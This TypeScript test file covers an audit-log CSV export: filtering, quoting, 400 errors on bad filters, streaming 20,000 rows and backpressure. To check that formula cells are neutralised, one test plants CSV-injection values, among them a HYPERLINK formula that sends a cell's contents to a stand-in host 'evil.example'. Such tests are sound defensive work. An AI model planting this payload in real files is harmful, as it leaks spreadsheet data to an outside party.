import { writeAuditCsv } from '../../src/audit/auditCsv';
import type { AuditFilters } from '../../src/audit/auditFilters';
import type { AuditRecord, ReadAuditEntries } from '../../src/audit/auditQuery';
import { AUDIT_TABLE } from '../../src/audit/auditTable';
import { startTestApp, TEST_USERS, type TestApp } from '../support/testApp';
import { AUDIT_CSV_COLUMNS, parseCsv } from '../support/auditCsv';
import { FullSink } from '../support/fullSink';
import { insertEntries } from './auditEntries';

describe('the audit download', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp();
  });
  afterAll(async () => {
    await t.close();
  });

  const download = (query = '') => t.agentSignedInAs(TEST_USERS.admin).get(`/audit.csv${query}`);

  test('when filtered, then it is a CSV file of exactly the matching entries, newest first', async () => {
    await insertEntries(t.db, [
      {
        requestId: 'csv-1',
        at: '2025-03-07T12:00:00Z',
        userId: 'U-CSV',
        username: 'csv@example.com',
        userName: 'Cas Vee',
        contactKey: '003CSV',
        sfid: '003CSV',
        externalId: 'X-CSV',
        changes: [
          { field: 'title', label: 'Title', from: 'Engineer', to: 'Manager' },
          { field: 'email', label: 'Email', from: '', to: 'cas@example.com' },
        ],
      },
      { requestId: 'csv-2', userId: 'U-CSV', action: 'sign_out' },
      { requestId: 'csv-3', userId: 'U-CSV', action: 'refused', detail: 'needs the editor role' },
      { requestId: 'csv-4', userId: 'U-OTHER', action: 'refused' },
    ]);

    const res = await download('?user=U-CSV&action=edit');
    const refusals = await download('?user=U-CSV&action=refused');

    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="contact-card-audit-${new Date().toISOString().slice(0, 10)}.csv"`,
    );
    expect(res.text.startsWith('\uFEFFid,at,')).toBe(true);
    const [header, ...rows] = parseCsv(res.text.slice(1));
    expect(header).toEqual(AUDIT_CSV_COLUMNS);
    expect(rows).toEqual([
      [
        expect.stringMatching(/^\d+$/),
        '2025-03-07T12:00:00.000Z',
        'edit',
        'U-CSV',
        'csv@example.com',
        'Cas Vee',
        'contact',
        '003CSV',
        '003CSV',
        'X-CSV',
        'Title: "Engineer" → "Manager"; Email: "" → "cas@example.com"',
        '',
        'csv-1',
        '',
      ],
    ]);
    const requestId = AUDIT_CSV_COLUMNS.indexOf('request_id');
    expect(parseCsv(refusals.text.slice(1)).map((row) => row[requestId])).toEqual([
      'request_id',
      'csv-3',
    ]);
  });

  test('when cells start like a formula, then each is neutralised with a quote', async () => {
    await insertEntries(t.db, [
      {
        requestId: '\tTAB',
        userId: 'U-FORMULA',
        username: '-1',
        userName: '+1',
        contactKey: '@SUM(A1:A9)',
        detail: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
        changes: [{ field: 'title', label: '=Title', from: '-2', to: '+3' }],
      },
    ]);

    const res = await download('?user=U-FORMULA');

    const [, row] = parseCsv(res.text.slice(1));
    expect(row?.slice(3)).toEqual([
      'U-FORMULA',
      "'-1",
      "'+1",
      'contact',
      "'@SUM(A1:A9)",
      '',
      '',
      `'=Title: "-2" → "+3"`,
      `'=HYPERLINK("http://evil.example/?q="&A1,"Click")`,
      "'\tTAB",
      '',
    ]);
    expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",`);
  });

  test('when values hold quotes, commas and line breaks, then they are quoted and read back whole', async () => {
    const detail = 'He said "no", then\r\nleft;\nagain';
    await insertEntries(t.db, [
      {
        requestId: 'quoting',
        userId: 'U-QUOTE',
        userName: 'Smith, "Jo"',
        detail,
        changes: [{ field: 'description', label: 'Description', from: 'a\nb', to: 'c "d"' }],
      },
    ]);

    const res = await download('?user=U-QUOTE');

    const [, row] = parseCsv(res.text.slice(1));
    expect(row?.[5]).toBe('Smith, "Jo"');
    expect(row?.[10]).toBe('Description: "a\\nb" → "c \\"d\\""');
    expect(row?.[11]).toBe(detail);
    expect(res.text).toContain(`"Smith, ""Jo"""`);
  });

  test('when the filters are wrong, then it answers 400 and says why', async () => {
    const res = await download('?action=nope&from=2025-99-01');

    expect(res.status).toBe(400);
    expect(res.text).toContain('Choose an action from the list.');
    expect(res.text).toContain('Enter a date as YYYY-MM-DD');
  });

  test('when 20,000 entries match, then every one is streamed, newest first', async () => {
    await t.db.query(
      `INSERT INTO ${AUDIT_TABLE} (action, user_id, username, user_name, request_id)
         SELECT 'sign_in', 'U-BULK', 'bulk@example.com', 'Bulk', 'bulk-' || n
           FROM generate_series(1, 20000) AS n`,
    );

    const res = await download('?user=U-BULK');

    const lines = res.text.split('\r\n');
    expect(lines).toHaveLength(20_002);
    expect(lines.at(-1)).toBe('');
    expect(lines[1]).toMatch(/,bulk-20000,$/);
    expect(lines[20_000]).toMatch(/,bulk-1,$/);
    expect(new Set(lines).size).toBe(20_002);
  });
});

describe('writing the audit CSV to a sink that pushes back', () => {
  const ANY: AuditFilters = { user: null, contact: null, action: null, from: null, to: null };

  /** Entries with ids from `count` down to 1, read in keyset batches as the database would. */
  function entriesCounting(count: number) {
    const reads: (string | null)[] = [];
    const read: ReadAuditEntries = (_filters, before, limit) => {
      reads.push(before);
      const top = before === null ? count : Number(before) - 1;
      const ids = Array.from({ length: Math.max(0, Math.min(limit, top)) }, (_, i) => top - i);
      return Promise.resolve(ids.map((id) => record(String(id))));
    };
    return { read, reads };
  }

  test('when the sink is full, then the next batch is read only after it drains', async () => {
    const { read, reads } = entriesCounting(2500);
    const sink = new FullSink();

    const header = sink.writes();
    const done = writeAuditCsv(read, ANY, sink);
    await header;
    expect(reads).toEqual([]);

    const firstBatch = sink.writes();
    sink.emit('drain');
    await firstBatch;
    expect(reads).toEqual([null]);

    for (let batch = 0; batch < 2; batch += 1) {
      const next = sink.writes();
      sink.emit('drain');
      await next;
    }
    sink.emit('drain');
    await done;
    expect(reads).toEqual([null, '1501', '501']);
    expect(sink.chunks.join('').split('\r\n')).toHaveLength(2502);
  });

  test('when the client goes away while the sink is full, then nothing more is read or written', async () => {
    const { read, reads } = entriesCounting(5000);
    const sink = new FullSink();

    const header = sink.writes();
    const done = writeAuditCsv(read, ANY, sink);
    await header;
    sink.destroyed = true;
    sink.emit('close');
    await done;

    expect(reads).toEqual([]);
    expect(sink.chunks).toHaveLength(1);
  });
});

function record(id: string): AuditRecord {
  return {
    id,
    at: new Date('2025-03-07T12:00:00Z'),
    action: 'sign_in',
    userId: 'U',
    username: 'u@example.com',
    userName: 'U',
    object: 'contact',
    contactKey: null,
    sfid: null,
    externalId: null,
    changes: [],
    detail: null,
    requestId: `r-${id}`,
    batchId: null,
  };
}
